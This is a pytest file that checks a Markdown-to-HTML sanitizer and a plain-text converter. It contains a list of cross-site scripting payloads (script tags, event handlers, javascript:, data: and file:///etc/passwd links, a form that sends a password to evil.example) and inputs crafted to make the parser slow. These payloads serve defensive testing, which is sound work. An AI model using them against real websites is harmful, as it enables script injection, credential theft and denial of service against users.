"""Texts: Markdown to HTML that cannot harm, and to the one plain form."""

import re

import pytest

from sidecard.text.html import read, safe_html
from sidecard.text.plain import plain_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/beacon.gif)",
    '![x](x "onerror=alert(1)")',
    "![<script>alert(1)</script>](x)",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "[x](https://a.example/'onmouseover='alert(1))",
    "<a href='https://a.example' target=_blank onclick=alert(1)>x</a>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n| - |\n| <script>alert(1)</script> |",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAG = re.compile(r"<\s*/?\s*([a-z][a-z0-9-]*)([^>]*)>", re.IGNORECASE)
HARMLESS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless(attack):
    html = safe_html(attack)

    for name, attributes in TAG.findall(html):
        assert name.lower() in HARMLESS
        assert not re.search(
            r"\bon\w+\s*=|style\s*=|src\s*=|javascript:|data:|vbscript:|file:", attributes, re.IGNORECASE
        ) or (name == "a" and re.fullmatch(r' href="https://[^"]*"( title="[^"]*")? rel="[^"]*"', attributes))


def test_links_open_nothing_and_tell_nothing():
    assert safe_html("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


def test_an_image_becomes_its_description():
    assert safe_html("![a red button](https://evil.example/b.gif)") == "<p>a red button</p>\n"


def test_tables_strikethrough_and_numbered_lists_are_rendered():
    html = safe_html("3. three\n\n~~no~~\n\n| a | b |\n| - | - |\n| 1 | 2 |")

    assert '<ol start="3">' in html
    assert "<s>no</s>" in html
    assert "<td>2</td>" in html


def test_raw_html_is_shown_as_text():
    assert safe_html("a <b>bold</b> word") == "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>\n"


PLAIN = {
    "words": ("One.\n\n\nTwo  words\nhere.", "One.\n\nTwo  words\nhere."),
    "emphasis": ("**A** *b* ~~c~~ `d`", "A b c d"),
    "heading": ("# Title\nText", "Title\n\nText"),
    "bullets": ("* a\n* b\n  - c\n\nend", "- a\n- b\n  - c\n\nend"),
    "numbers": ("3) a\n4) b", "3. a\n4. b"),
    "a loose list": ("1. a\n\n   more\n\n2. b", "1. a\n\n   more\n2. b"),
    "a link": ("[Help](https://a.example/x)", "Help (https://a.example/x)"),
    "a link that is its own text": ("<https://a.example>", "https://a.example"),
    "a mail address": ("<help@a.example>", "help@a.example"),
    "a named mail address": ("[write](mailto:help@a.example)", "write (help@a.example)"),
    "an image": ("![a button](b.png)", "a button"),
    "a table": ("| a | b |\n| - | - |\n| 1 | **2** |", "a | b\n1 | 2"),
    "code": ("```\n x = *1*\n```", " x = *1*"),
    "a quotation": ("> a\n> b", "> a\n> b"),
    "entities": ("a &amp; b &lt;c&gt;", "a & b <c>"),
    "escapes": ("1\\. not a list \\*", "1. not a list *"),
    "raw html": ("a <b>b</b>", "a <b>b</b>"),
    "a rule": ("a\n\n---\n\nb", "a\n\n---\n\nb"),
    "a hard break": ("a  \nb\\\nc", "a\nb\nc"),
    "windows": ("a\r\nb\r\n\r\nc", "a\nb\n\nc"),
    "korean": ("**환불**은 [여기](https://a.example)에서", "환불은 여기 (https://a.example)에서"),
    "nothing": ("", ""),
}


@pytest.mark.parametrize("name", PLAIN)
def test_the_plain_form(name):
    markdown, plain = PLAIN[name]

    assert plain_text(markdown) == plain


@pytest.mark.parametrize(
    "text",
    [
        "One line.",
        "Two\nlines.",
        "A\n\nB",
        "Price: 5 EUR (net), 50%!",
        "이것은 문장입니다. 두 번째.",
        "a - b",
        "x=1; y",
    ],
)
def test_the_quick_way_gives_what_the_parser_gives(text, monkeypatch):
    quick = plain_text(text)
    monkeypatch.setattr("sidecard.text.plain._MARKED", re.compile(""))

    assert plain_text(text) == quick


def test_a_long_text_of_brackets_takes_no_long_time():
    safe_html("[" * 20_000)
    plain_text("*a " * 20_000)
    plain_text("> " * 2_000 + "x")


SLOW = {
    "a line for each of many quotes": "> " * 4_000 + "a\n" + "b\n" * 8_000,
    "signs that open pictures": "![" * 60_000,
    "a list in another for each line": "- a\n* b\n" * 20_000,
    "one long address meant ten thousand times": "[a]: /" + "b" * 50_000 + "\n\n" + "[a]" * 10_000,
    "emphasis in emphasis": "*a " * 3_000 + " a*" * 3_000,
    "strikethrough in strikethrough": "~~a " * 3_000 + " b~~" * 3_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_what_was_made_to_be_slow_is_shown_as_it_was_written(name):
    html, plain = safe_html(SLOW[name]), plain_text(SLOW[name])

    assert html.startswith("<pre>")
    assert plain == SLOW[name].strip()


def test_what_is_shown_as_it_was_written_harms_nobody():
    assert "<script" not in safe_html("* " + "![" * 60_000 + "<script>alert(1)</script>")


def test_a_long_text_that_people_write_is_rendered():
    page = "## Refund a customer\n\nOpen *Orders*, then [the desk](https://a.example/x) and press **Refund**.\n\n- one\n- two\n\n"
    text = page * (200_000 // len(page))

    assert len(text) > 199_000
    assert read(text) is not None
    assert safe_html(text).count("<h2>") == text.count("##")
